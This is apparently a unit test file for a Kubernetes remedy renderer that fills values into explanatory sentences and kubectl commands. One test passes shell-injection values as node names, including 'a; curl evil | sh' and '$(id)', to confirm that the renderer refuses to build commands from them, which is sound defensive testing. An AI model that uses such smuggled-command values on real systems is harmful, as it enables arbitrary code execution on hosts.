import { commandOf, renderRemedy, renderSentence } from './render';

describe('renderSentence', () => {
  it('fills values in, and leaves a part out where one of its values is missing', () => {
    const template =
      'Kubernetes {version} is supported[, {recommended} is recommended][ (tested up to {tested})]';

    expect(
      renderSentence(template, { version: '1.20', recommended: '1.21' }),
    ).toBe('Kubernetes 1.20 is supported, 1.21 is recommended');
  });

  it.each([
    [{ class: 'fast', server: 'nfs-1' }, 'The class fast is named'],
    [{ server: 'nfs-1' }, 'The server nfs-1 is named'],
    [{}, 'Nothing is named'],
  ])('takes the first alternative whose values are there: %j', (values, is) => {
    const template = '[The class {class}|The server {server}|Nothing] is named';

    expect(renderSentence(template, values)).toBe(is);
    expect(renderSentence(']a|b', {})).toBe(']a|b');
  });

  it('chooses the form by the number', () => {
    const template = '{count} {count:GPU is|GPUs are} free';

    expect(renderSentence(template, { count: 1 })).toBe('1 GPU is free');
    expect(renderSentence(template, { count: 0 })).toBe('0 GPUs are free');
  });

  it('shows the mark of a value that should be there, so that a test can refuse it', () => {
    expect(renderSentence('{node} is {colour}', { node: 'a' })).toBe(
      'a is {colour}',
    );
  });

  it('fills in nothing that a value brings: braces and brackets of a cluster are words', () => {
    expect(
      renderSentence('It says: {said}[ at {when}]', { said: '[{node}]' }),
    ).toBe('It says: [{node}]');
  });
});

describe('commandOf', () => {
  it('keeps the braces and brackets of a shell', () => {
    expect(
      commandOf("kubectl get {kind} -o jsonpath='{.spec}' | grep '[0-9]'")({
        kind: 'nodes',
      }),
    ).toBe("kubectl get nodes -o jsonpath='{.spec}' | grep '[0-9]'");
  });

  it('is left out where a value is missing', () => {
    expect(commandOf('kubectl logs {pod}')({})).toBeUndefined();
  });
});

describe('renderRemedy', () => {
  const remedy = {
    owner: 'cluster-admin',
    text: 'Upgrade {node}.',
    commands: ['kubectl drain {node}', 'kubectl logs {pod}'],
    where: { openshift: { commands: ['oc adm upgrade'] } },
  } as const;

  it('says what to do here, closest place first', () => {
    const values = { node: 'a' };

    expect(renderRemedy(remedy, values, []).commands).toEqual([
      'kubectl drain a',
    ]);
    expect(renderRemedy(remedy, values, ['okd', 'openshift'])).toEqual({
      owner: 'cluster-admin',
      text: 'Upgrade a.',
      commands: ['oc adm upgrade'],
      docs: [],
    });
  });

  it.each(['a; curl evil | sh', '$(id)', 'a\nb', "a'", '--all', 'a --all'])(
    'brings no command with the name %j, which a shell would read otherwise',
    node => {
      const { text, commands } = renderRemedy(remedy, { node, pod: 'p' }, []);

      expect(commands).toEqual(['kubectl logs p']);
      expect(text).toBe(`Upgrade ${node}.`);
    },
  );

  it('brings commands with several names, and with the pieces of our own tables', () => {
    const commands = ['kubectl taint node {nodes}', '{look}'];
    const values = { nodes: 'a b', look: 'kubectl get pods | grep cloud' };

    expect(renderRemedy({ ...remedy, commands }, values, []).commands).toEqual([
      'kubectl taint node a b',
      'kubectl get pods | grep cloud',
    ]);
  });
});
